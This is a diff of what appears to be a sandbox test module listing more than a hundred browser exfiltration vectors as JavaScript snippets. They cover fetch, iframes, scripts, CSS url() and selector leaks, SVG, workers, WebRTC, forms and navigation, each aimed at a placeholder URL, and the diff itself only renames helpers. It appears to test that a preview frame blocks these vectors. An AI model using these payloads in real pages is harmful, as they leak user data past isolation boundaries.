@@ -7,8 +7,8 @@ globals were before the frame's own code ran, where the test kept them, else `w`
 preview notes; the others are every further way that we know of.
 """
 
-_FETCH = "fetch('${u}', {mode: 'no-cors'})"
-_SCRIPT = f"`<script>{_FETCH}</scr` + `ipt>`"
+FETCH = "fetch('${u}', {mode: 'no-cors'})"
+SCRIPT = f"`<script>{FETCH}</scr` + `ipt>`"
 _PEER = (
     "const p = new (real.RTCPeerConnection ?? w.webkitRTCPeerConnection)({iceServers: [%s]});"
     "p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await wait(600);"
@@ -17,15 +17,15 @@ _STUN = "{urls: stun}"
 _TURN = "{urls: turn, username: 'u', credential: 'c'}"
 
 
-def _style(rule: str) -> str:
+def style(rule: str) -> str:
     return f"const s = d.createElement('style'); s.textContent = `{rule}`; d.head.append(s); box.append(html('<i class=att>x</i>'));"
 
 
-def _html(markup: str) -> str:
+def html(markup: str) -> str:
     return f"box.append(html(`{markup}`));"
 
 
-def _link(rest: str) -> str:
+def link(rest: str) -> str:
     return f"const l = d.createElement('link'); Object.assign(l, {{{rest}, href: u}}); d.head.append(l); await wait(300);"
 
 
@@ -43,60 +43,60 @@ STILL: dict[str, str] = {
     "event-source": "new real.EventSource(u)",
     "web-transport": "await new real.WebTransport(u.replace('http:', 'https:')).ready",
     "a-ping": "const a = d.createElement('a'); a.href = '#x'; a.ping = u; box.append(a); real.click.call(a)",
-    "attribution-src": _html("<img attributionsrc='${u}' src='data:,'>"),
+    "attribution-src": html("<img attributionsrc='${u}' src='data:,'>"),
     "private-token": "await real.fetch(u, {mode: 'no-cors', privateToken: {version: 1, operation: 'token-request'}})",
     "compute-pressure-report": "new w.ReportingObserver(() => 0, {buffered: true}).observe(); await d.requestStorageAccess()",
     # media and other elements
     "img": "new w.Image().src = u",
-    "img-markup": _html("<img src='${u}'>"),
-    "img-srcset": _html("<img srcset='${u} 1x, ${u}2 2x'>"),
-    "img-lazy-eager": _html("<img loading=eager fetchpriority=high src='${u}'>"),
-    "picture-source": _html("<picture><source srcset='${u}'><img src='data:,'></picture>"),
-    "image-input": _html("<input type=image src='${u}'>"),
-    "image-old-tag": _html("<image src='${u}'>"),
-    "video": _html("<video src='${u}' autoplay muted></video>"),
-    "video-source": _html("<video autoplay muted><source src='${u}'></video>"),
-    "video-poster": _html("<video poster='${u}'></video>"),
-    "audio": _html("<audio src='${u}' preload=auto></audio>"),
-    "track": _html(
+    "img-markup": html("<img src='${u}'>"),
+    "img-srcset": html("<img srcset='${u} 1x, ${u}2 2x'>"),
+    "img-lazy-eager": html("<img loading=eager fetchpriority=high src='${u}'>"),
+    "picture-source": html("<picture><source srcset='${u}'><img src='data:,'></picture>"),
+    "image-input": html("<input type=image src='${u}'>"),
+    "image-old-tag": html("<image src='${u}'>"),
+    "video": html("<video src='${u}' autoplay muted></video>"),
+    "video-source": html("<video autoplay muted><source src='${u}'></video>"),
+    "video-poster": html("<video poster='${u}'></video>"),
+    "audio": html("<audio src='${u}' preload=auto></audio>"),
+    "track": html(
         "<video src='data:video/webm;base64,' ><track default kind=captions src='${u}.vtt'></video>"
     )
     + "box.querySelector('video').textTracks[0].mode = 'showing'",
-    "object": _html("<object data='${u}'></object>"),
-    "embed": _html("<embed src='${u}'>"),
-    "background-attribute": _html("<table background='${u}'><tr><td background='${u}'>x</table>"),
+    "object": html("<object data='${u}'></object>"),
+    "embed": html("<embed src='${u}'>"),
+    "background-attribute": html("<table background='${u}'><tr><td background='${u}'>x</table>"),
     "body-background": "d.body.setAttribute('background', u)",
     "fenced-frame": "const f = d.createElement('fencedframe'); f.config = new w.FencedFrameConfig(u); box.append(f)",
     # frames
-    "iframe": _html("<iframe src='${u}'></iframe>"),
+    "iframe": html("<iframe src='${u}'></iframe>"),
     "iframe-srcdoc-img": "const f = d.createElement('iframe'); f.srcdoc = `<img src='${u}'>`; box.append(f)",
-    "iframe-srcdoc-script": f"const f = d.createElement('iframe'); f.srcdoc = {_SCRIPT}; box.append(f)",
-    "iframe-srcdoc-handler": f"const f = d.createElement('iframe'); f.srcdoc = `<img src=x onerror=\"{_FETCH}\">`; box.append(f)",
+    "iframe-srcdoc-script": f"const f = d.createElement('iframe'); f.srcdoc = {SCRIPT}; box.append(f)",
+    "iframe-srcdoc-handler": f"const f = d.createElement('iframe'); f.srcdoc = `<img src=x onerror=\"{FETCH}\">`; box.append(f)",
     "iframe-srcdoc-refresh": "const f = d.createElement('iframe'); f.srcdoc = `<meta http-equiv=refresh content='0;url=${u}'>`; box.append(f)",
     "iframe-srcdoc-form": "const f = d.createElement('iframe'); f.srcdoc = `<form action='${u}'><input name=a autofocus><button>x</button></form>`; box.append(f)",
     "iframe-srcdoc-nested": "const f = d.createElement('iframe'); f.srcdoc = `<iframe srcdoc=\"<img src='${u}'>\"></iframe>`; box.append(f)",
     "iframe-srcdoc-base": "const f = d.createElement('iframe'); f.srcdoc = `<base href='${u}/'><img src=b><link rel=stylesheet href=c>`; box.append(f)",
-    "iframe-data": f"const f = d.createElement('iframe'); f.src = 'data:text/html,' + encodeURIComponent({_SCRIPT}); box.append(f)",
-    "iframe-blob": f"const f = d.createElement('iframe'); f.src = w.URL.createObjectURL(new Blob([{_SCRIPT}], {{type: 'text/html'}})); box.append(f)",
-    "iframe-javascript": f"const f = d.createElement('iframe'); f.src = `javascript:{_FETCH}`; box.append(f)",
+    "iframe-data": f"const f = d.createElement('iframe'); f.src = 'data:text/html,' + encodeURIComponent({SCRIPT}); box.append(f)",
+    "iframe-blob": f"const f = d.createElement('iframe'); f.src = w.URL.createObjectURL(new Blob([{SCRIPT}], {{type: 'text/html'}})); box.append(f)",
+    "iframe-javascript": f"const f = d.createElement('iframe'); f.src = `javascript:{FETCH}`; box.append(f)",
     "iframe-blank-realm": "const f = d.createElement('iframe'); box.append(f); await f.contentWindow.fetch(u, {mode: 'no-cors'})",
-    "iframe-blank-write": f"const f = d.createElement('iframe'); box.append(f); f.contentDocument.write({_SCRIPT})",
-    "iframe-unsandboxed": f"const f = d.createElement('iframe'); f.sandbox = 'allow-scripts allow-same-origin allow-top-navigation'; f.srcdoc = {_SCRIPT}; box.append(f)",
-    "iframe-csp-attribute": f"const f = d.createElement('iframe'); f.csp = 'script-src *'; f.srcdoc = {_SCRIPT}; box.append(f)",
+    "iframe-blank-write": f"const f = d.createElement('iframe'); box.append(f); f.contentDocument.write({SCRIPT})",
+    "iframe-unsandboxed": f"const f = d.createElement('iframe'); f.sandbox = 'allow-scripts allow-same-origin allow-top-navigation'; f.srcdoc = {SCRIPT}; box.append(f)",
+    "iframe-csp-attribute": f"const f = d.createElement('iframe'); f.csp = 'script-src *'; f.srcdoc = {SCRIPT}; box.append(f)",
     "iframe-credentialless": "const f = d.createElement('iframe'); f.credentialless = true; f.src = u; box.append(f)",
     "frameset": "const f = d.createElement('frame'); f.src = u; const s = d.createElement('frameset'); s.append(f); d.documentElement.append(s)",
     "object-html": "const o = d.createElement('object'); o.type = 'text/html'; o.data = u + '.html'; box.append(o)",
     # scripts
     "script": "const s = d.createElement('script'); s.src = u + '.js'; d.head.append(s)",
     "script-module": "const s = d.createElement('script'); s.type = 'module'; s.src = u + '.js'; d.head.append(s)",
-    "script-inline": f"const s = d.createElement('script'); s.textContent = `{_FETCH}`; d.head.append(s)",
-    "script-data": f"const s = d.createElement('script'); s.src = 'data:text/javascript,' + encodeURIComponent(`{_FETCH}`); d.head.append(s)",
-    "script-blob": f"const s = d.createElement('script'); s.src = w.URL.createObjectURL(new Blob([`{_FETCH}`])); d.head.append(s)",
-    "script-nonce-guess": f"const s = d.createElement('script'); s.nonce = d.scripts[0]?.nonce; s.textContent = `{_FETCH}`; d.head.append(s)",
-    "inline-handler": _html(f'<img src=x onerror="{_FETCH}">'),
+    "script-inline": f"const s = d.createElement('script'); s.textContent = `{FETCH}`; d.head.append(s)",
+    "script-data": f"const s = d.createElement('script'); s.src = 'data:text/javascript,' + encodeURIComponent(`{FETCH}`); d.head.append(s)",
+    "script-blob": f"const s = d.createElement('script'); s.src = w.URL.createObjectURL(new Blob([`{FETCH}`])); d.head.append(s)",
+    "script-nonce-guess": f"const s = d.createElement('script'); s.nonce = d.scripts[0]?.nonce; s.textContent = `{FETCH}`; d.head.append(s)",
+    "inline-handler": html(f'<img src=x onerror="{FETCH}">'),
     "import": "await w.eval(`import('${u}.js')`)",
-    "import-data": f"await w.eval('import(' + JSON.stringify('data:text/javascript,' + encodeURIComponent(`{_FETCH}`)) + ')')",
-    "import-blob": f"await w.eval('import(' + JSON.stringify(w.URL.createObjectURL(new Blob([`{_FETCH}`], {{type: 'text/javascript'}}))) + ')')",
+    "import-data": f"await w.eval('import(' + JSON.stringify('data:text/javascript,' + encodeURIComponent(`{FETCH}`)) + ')')",
+    "import-blob": f"await w.eval('import(' + JSON.stringify(w.URL.createObjectURL(new Blob([`{FETCH}`], {{type: 'text/javascript'}}))) + ')')",
     "import-map": "const s = d.createElement('script'); s.type = 'importmap'; s.textContent = JSON.stringify({imports: {evil: u + '.js'}}); d.head.append(s); await w.eval(`import('evil')`)",
     "import-json": "await w.eval(`import('${u}.json', {with: {type: 'json'}})`)",
     "new-function": "await new w.Function('u', 'return fetch(u, {mode: \"no-cors\"})')(u)",
@@ -104,22 +104,22 @@ STILL: dict[str, str] = {
     "string-timer": "w.setTimeout(`fetch('${u}', {mode: 'no-cors'})`)",
     "wasm-import": "await w.WebAssembly.compileStreaming(real.fetch(u))",
     # hints
-    "link-stylesheet": _link("rel: 'stylesheet'"),
-    "link-preload": _link("rel: 'preload', as: 'image'"),
-    "link-preload-font": _link("rel: 'preload', as: 'font', crossOrigin: ''"),
-    "link-preload-fetch": _link("rel: 'preload', as: 'fetch', crossOrigin: ''"),
-    "link-modulepreload": _link("rel: 'modulepreload'"),
-    "link-prefetch": _link("rel: 'prefetch'"),
-    "link-prerender": _link("rel: 'prerender'"),
-    "link-preconnect": _link("rel: 'preconnect'"),
-    "link-dns-prefetch": _link("rel: 'dns-prefetch'"),
-    "link-icon": _link("rel: 'icon'"),
-    "link-manifest": _link("rel: 'manifest'"),
-    "link-dictionary": _link("rel: 'compression-dictionary'"),
-    "link-expect-blocking": _link("rel: 'expect', blocking: 'render'"),
+    "link-stylesheet": link("rel: 'stylesheet'"),
+    "link-preload": link("rel: 'preload', as: 'image'"),
+    "link-preload-font": link("rel: 'preload', as: 'font', crossOrigin: ''"),
+    "link-preload-fetch": link("rel: 'preload', as: 'fetch', crossOrigin: ''"),
+    "link-modulepreload": link("rel: 'modulepreload'"),
+    "link-prefetch": link("rel: 'prefetch'"),
+    "link-prerender": link("rel: 'prerender'"),
+    "link-preconnect": link("rel: 'preconnect'"),
+    "link-dns-prefetch": link("rel: 'dns-prefetch'"),
+    "link-icon": link("rel: 'icon'"),
+    "link-manifest": link("rel: 'manifest'"),
+    "link-dictionary": link("rel: 'compression-dictionary'"),
+    "link-expect-blocking": link("rel: 'expect', blocking: 'render'"),
     "speculation-prefetch": "const s = d.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [u], eagerness: 'immediate'}]}); d.head.append(s); await wait(300)",
     "speculation-prerender": "const s = d.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({prerender: [{source: 'list', urls: [u], eagerness: 'immediate'}]}); d.head.append(s); await wait(300)",
-    "meta-csp-report": _html(
+    "meta-csp-report": html(
         "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri ${u}\"><img src=data:,>"
     )
     + "d.head.append(box.lastElementChild)",
@@ -127,67 +127,65 @@ STILL: dict[str, str] = {
     "meta-origin-trial": "const m = d.createElement('meta'); m.httpEquiv = 'origin-trial'; m.content = u; d.head.append(m)",
     "base-href": "const b = d.createElement('base'); b.href = u + '/'; d.head.prepend(b); box.append(html(`<img src='rel'>`)); await wait(100); b.remove()",
     # style sheets
-    "css-background": _style(".att { background: url('${u}') }"),
-    "css-import": _style("@import url('${u}.css');"),
-    "css-import-layer": _style("@import '${u}.css' layer(x) supports(display: grid);"),
-    "css-font-face": _style(
+    "css-background": style(".att { background: url('${u}') }"),
+    "css-import": style("@import url('${u}.css');"),
+    "css-import-layer": style("@import '${u}.css' layer(x) supports(display: grid);"),
+    "css-font-face": style(
         "@font-face { font-family: att; src: url('${u}.woff2') } .att { font-family: att }"
     ),
-    "css-list-image": _style(".att { display: list-item; list-style-image: url('${u}') }"),
-    "css-border-image": _style(".att { border: 3px solid; border-image: url('${u}') 3 }"),
-    "css-cursor": _style("* { cursor: url('${u}'), auto }"),
-    "css-content": _style(".att::before { content: url('${u}') }"),
-    "css-mask": _style(".att { mask: url('${u}'); -webkit-mask-image: url('${u}') }"),
-    "css-filter": _style(".att { filter: url('${u}.svg#f'); backdrop-filter: url('${u}.svg#f') }"),
-    "css-clip-path": _style(".att { clip-path: url('${u}.svg#c') }"),
-    "css-shape-outside": _style(".att { float: left; shape-outside: url('${u}') }"),
-    "css-image-set": _style(
+    "css-list-image": style(".att { display: list-item; list-style-image: url('${u}') }"),
+    "css-border-image": style(".att { border: 3px solid; border-image: url('${u}') 3 }"),
+    "css-cursor": style("* { cursor: url('${u}'), auto }"),
+    "css-content": style(".att::before { content: url('${u}') }"),
+    "css-mask": style(".att { mask: url('${u}'); -webkit-mask-image: url('${u}') }"),
+    "css-filter": style(".att { filter: url('${u}.svg#f'); backdrop-filter: url('${u}.svg#f') }"),
+    "css-clip-path": style(".att { clip-path: url('${u}.svg#c') }"),
+    "css-shape-outside": style(".att { float: left; shape-outside: url('${u}') }"),
+    "css-image-set": style(
         ".att { background: image-set('${u}' 1x); background: -webkit-image-set(url('${u}') 1x) }"
     ),
-    "css-cross-fade": _style(".att { background: -webkit-cross-fade(url('${u}'), url('${u}'), 50%) }"),
-    "css-variable": _style(":root { --b: url('${u}') } .att { background: var(--b) }"),
-    "css-svg-paint": _style("svg * { fill: url('${u}.svg#g'); marker-end: url('${u}.svg#m') }")
+    "css-cross-fade": style(".att { background: -webkit-cross-fade(url('${u}'), url('${u}'), 50%) }"),
+    "css-variable": style(":root { --b: url('${u}') } .att { background: var(--b) }"),
+    "css-svg-paint": style("svg * { fill: url('${u}.svg#g'); marker-end: url('${u}.svg#m') }")
     + "box.append(html('<svg><path d=\"M0 0L9 9\"/></svg>'))",
-    "css-selector-leak": _style("input[value^='a'] { background: url('${u}') }")
+    "css-selector-leak": style("input[value^='a'] { background: url('${u}') }")
     + "box.append(html('<input value=abc>'))",
-    "css-attribute": _html("<i style=\"background: url('${u}')\">x</i>"),
+    "css-attribute": html("<i style=\"background: url('${u}')\">x</i>"),
     "css-adopted": "const s = new w.CSSStyleSheet(); s.replaceSync(`* { background: url('${u}') }`); d.adoptedStyleSheets = [...d.adoptedStyleSheets, s]; await wait(100); d.adoptedStyleSheets = []",
-    "css-animation": _style(
+    "css-animation": style(
         "@keyframes att { to { background: url('${u}') } } .att { animation: att 1s infinite }"
     ),
     "css-paint-worklet": "await w.CSS.paintWorklet.addModule(u + '.js')",
-    "css-view-transition": _style("::view-transition { background: url('${u}') }")
+    "css-view-transition": style("::view-transition { background: url('${u}') }")
     + "d.startViewTransition?.(() => 0)",
     "font-api": "await new w.FontFace('att', `url(${u}.woff2)`).load()",
     # svg and xml
-    "svg-image": _html("<svg><image href='${u}' width=9 height=9 /></svg>"),
-    "svg-image-xlink": _html("<svg><image xlink:href='${u}' width=9 height=9 /></svg>"),
-    "svg-use": _html("<svg><use href='${u}.svg#x'/></svg>"),
-    "svg-feimage": _html(
+    "svg-image": html("<svg><image href='${u}' width=9 height=9 /></svg>"),
+    "svg-image-xlink": html("<svg><image xlink:href='${u}' width=9 height=9 /></svg>"),
+    "svg-use": html("<svg><use href='${u}.svg#x'/></svg>"),
+    "svg-feimage": html(
         "<svg><filter id=q><feImage href='${u}'/></filter><rect filter='url(#q)' width=9 height=9 /></svg>"
     ),
     "svg-script": "const s = d.createElementNS('http://www.w3.org/2000/svg', 'script'); s.setAttribute('href', u + '.js'); const v = d.createElementNS('http://www.w3.org/2000/svg', 'svg'); v.append(s); box.append(v)",
-    "svg-foreign-object": _html(
-        "<svg><foreignObject width=9 height=9><img src='${u}'></foreignObject></svg>"
-    ),
-    "svg-animate-href": _html(
+    "svg-foreign-object": html("<svg><foreignObject width=9 height=9><img src='${u}'></foreignObject></svg>"),
+    "svg-animate-href": html(
         "<svg><image width=9 height=9><animate attributeName=href values='${u}' dur=1s /></image></svg>"
     ),
-    "svg-style": _html("<svg><style>@import '${u}.css';</style></svg>"),
+    "svg-style": html("<svg><style>@import '${u}.css';</style></svg>"),
     "svg-data-image": "box.append(html(`<img src=\"data:image/svg+xml,${encodeURIComponent(`<svg xmlns='http://www.w3.org/2000/svg'><image href='${u}'/></svg>`)}\">`))",
     "xml-entity": "new w.DOMParser().parseFromString(`<!DOCTYPE a SYSTEM '${u}' [<!ENTITY e SYSTEM '${u}'>]><a>&e;</a>`, 'text/xml')",
     "xslt": "const p = new w.XSLTProcessor(); const x = new w.DOMParser().parseFromString(`<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:import href='${u}'/><xsl:template match='/'><xsl:copy-of select=\"document('${u}')\"/></xsl:template></xsl:stylesheet>`, 'text/xml'); p.importStylesheet(x); p.transformToFragment(x, d)",
-    "mathml-href": _html("<math href='${u}'><mi href='${u}'>x</mi></math>"),
+    "mathml-href": html("<math href='${u}'><mi href='${u}'>x</mi></math>"),
     "html-parser-document": "const p = w.Document.parseHTMLUnsafe?.(`<img src='${u}'>`); if (p) box.append(d.adoptNode(p.body.firstChild))",
     "template-clone": "const t = d.createElement('template'); t.innerHTML = `<img src='${u}'>`; box.append(t.content.cloneNode(true))",
     "canvas-image": "const i = new w.Image(); i.crossOrigin = 'anonymous'; i.src = u; d.createElement('canvas').getContext('2d').drawImage(i, 0, 0)",
     # workers
     "worker": "new real.Worker(u + '.js')",
-    "worker-blob": f"new real.Worker(w.URL.createObjectURL(new Blob([`{_FETCH}`])))",
-    "worker-data": f"new real.Worker('data:text/javascript,' + encodeURIComponent(`{_FETCH}`))",
+    "worker-blob": f"new real.Worker(w.URL.createObjectURL(new Blob([`{FETCH}`])))",
+    "worker-data": f"new real.Worker('data:text/javascript,' + encodeURIComponent(`{FETCH}`))",
     "worker-module-import": "new real.Worker(w.URL.createObjectURL(new Blob([`import '${u}.js'`])), {type: 'module'})",
     "shared-worker": "new real.SharedWorker(u + '.js')",
-    "shared-worker-data": f"new real.SharedWorker('data:text/javascript,' + encodeURIComponent(`{_FETCH}`))",
+    "shared-worker-data": f"new real.SharedWorker('data:text/javascript,' + encodeURIComponent(`{FETCH}`))",
     "service-worker": "await w.Navigator.prototype.__lookupGetter__('serviceWorker').call(w.navigator).register(u + '.js')",
     "audio-worklet": "await new w.AudioContext().audioWorklet.addModule(u + '.js')",
     "cache-add": "await (await real.caches.open('x')).add(u)",
@@ -200,30 +198,30 @@ STILL: dict[str, str] = {
     "webrtc-own-chunk-child": "const f = d.createElement('iframe'); f.srcdoc = [...d.scripts].map(s => `<script type=module src='${s.src}'></scr` + `ipt>`).join(''); box.append(f); await wait(300);"
     "f.contentWindow.postMessage({type: 'render', id: 1, final: true, dark: false, entry: 'A.tsx', files: {'A.tsx': `export default () => { document.defaultView.fetch('${u}'); new Image().src = '${u}'; return <p/> }`}}, '*'); await wait(300)",
     # forms that target a frame; those that take the frame itself with them are in LEAVING
-    "form-get-frame": _html(
+    "form-get-frame": html(
         "<iframe name=ff></iframe><form target=ff action='${u}'><input name=a value=b></form>"
     )
     + "real.submit.call(box.querySelector('form[target=ff]'))",
-    "form-post-frame": _html(
+    "form-post-frame": html(
         "<iframe name=fp></iframe><form target=fp method=post action='${u}'><input name=a></form>"
     )
     + "real.submit.call(box.querySelector('form[target=fp]'))",
-    "form-action-button": _html(
+    "form-action-button": html(
         "<iframe name=fb></iframe><form target=fb><button formaction='${u}'>x</button></form>"
     )
     + "real.click.call(box.querySelector('button[formaction]'))",
-    "form-blank": _html("<form target=_blank action='${u}'></form>")
+    "form-blank": html("<form target=_blank action='${u}'></form>")
     + "real.submit.call(box.querySelector('form[target=_blank]'))",
     # other windows
     "window-open": "const o = real.open(u); if (o && o.close) o.close()",
     "window-open-stand-in": "w.open(u)",
-    "link-blank": _html("<a target=_blank href='${u}'>x</a>")
+    "link-blank": html("<a target=_blank href='${u}'>x</a>")
     + "real.click.call(box.querySelector('a[target=_blank]'))",
     "top-location": "w.top.location = u",
     "parent-location": "w.parent.location.replace(u)",
     "top-open": "real.open(u, '_top')",
     "parent-open": "real.open(u, '_parent')",
-    "link-top": _html("<a target=_top href='${u}'>x</a>")
+    "link-top": html("<a target=_top href='${u}'>x</a>")
     + "real.click.call(box.querySelector('a[target=_top]'))",
     "opener": "w.opener.location = u",
     "parent-document": "leak(w.parent.document.title)",
@@ -273,31 +271,31 @@ LEAVING: dict[str, str] = {
     "location-replace": "w.location.replace(u)",
     "location-scope": "location.href = u; window.location = u",
     "meta-refresh": "const m = d.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0;url=${u}`; d.head.append(m)",
-    "link-click": _html("<a href='${u}'>x</a>") + "real.click.call(box.querySelector('a'))",
-    "link-dispatch": _html("<a href='${u}'>x</a>")
+    "link-click": html("<a href='${u}'>x</a>") + "real.click.call(box.querySelector('a'))",
+    "link-dispatch": html("<a href='${u}'>x</a>")
     + "real.dispatchEvent.call(box.querySelector('a'), new w.MouseEvent('click'))",
     "link-detached": "const a = d.createElement('a'); a.href = u; real.click.call(a)",
-    "link-download": _html("<a download href='${u}'>x</a>") + "real.click.call(box.querySelector('a'))",
+    "link-download": html("<a download href='${u}'>x</a>") + "real.click.call(box.querySelector('a'))",
     "link-relative-base": "const b = d.createElement('base'); b.href = u; d.head.append(b);"
-    + _html("<a href='x'>x</a>")
+    + html("<a href='x'>x</a>")
     + "real.click.call(box.querySelector('a'))",
-    "area-click": _html("<map><area href='${u}'></map>") + "real.click.call(box.querySelector('area'))",
-    "svg-link": _html("<svg><a href='${u}'><text>x</text></a></svg>")
+    "area-click": html("<map><area href='${u}'></map>") + "real.click.call(box.querySelector('area'))",
+    "svg-link": html("<svg><a href='${u}'><text>x</text></a></svg>")
     + "real.dispatchEvent.call(box.querySelector('a'), new w.MouseEvent('click', {bubbles: true}))",
-    "form-get": _html("<form action='${u}'><input name=a value=b></form>")
+    "form-get": html("<form action='${u}'><input name=a value=b></form>")
     + "real.submit.call(box.querySelector('form'))",
-    "form-post": _html("<form method=post action='${u}'><input name=a value=b></form>")
+    "form-post": html("<form method=post action='${u}'><input name=a value=b></form>")
     + "real.submit.call(box.querySelector('form'))",
-    "form-request-submit": _html("<form action='${u}'><button>x</button></form>")
+    "form-request-submit": html("<form action='${u}'><button>x</button></form>")
     + "real.requestSubmit.call(box.querySelector('form'))",
     "open-self": "real.open(u, '_self')",
     "open-unnamed-self": "w.name = 'me'; real.open(u, 'me')",
     "navigation-api": "await w.navigation.navigate(u).finished",
     "history-cross": "w.History.prototype.pushState.call(real.history, null, '', u); d.location.reload()",
     "javascript-address": "d.location.href = `javascript:fetch('${u}', {mode: 'no-cors'})`",
-    "data-document": f"d.location.href = 'data:text/html,' + encodeURIComponent({_SCRIPT})",
-    "blob-document": f"d.location.href = w.URL.createObjectURL(new Blob([{_SCRIPT}], {{type: 'text/html'}}))",
-    "document-open": f"d.open(); d.write({_SCRIPT}); d.close()",
+    "data-document": f"d.location.href = 'data:text/html,' + encodeURIComponent({SCRIPT})",
+    "blob-document": f"d.location.href = w.URL.createObjectURL(new Blob([{SCRIPT}], {{type: 'text/html'}}))",
+    "document-open": f"d.open(); d.write({SCRIPT}); d.close()",
     "neighbour": "d.location.href = d.location.href.replace(/\\/\\/\\w+/, '//' + 'b'.repeat(26)) + '?' + encodeURIComponent(u)",
     "own-server-path": "d.location.href = d.location.origin + '/../health?' + encodeURIComponent(u)",
     "history-back": "w.History.prototype.go.call(real.history, -1)",
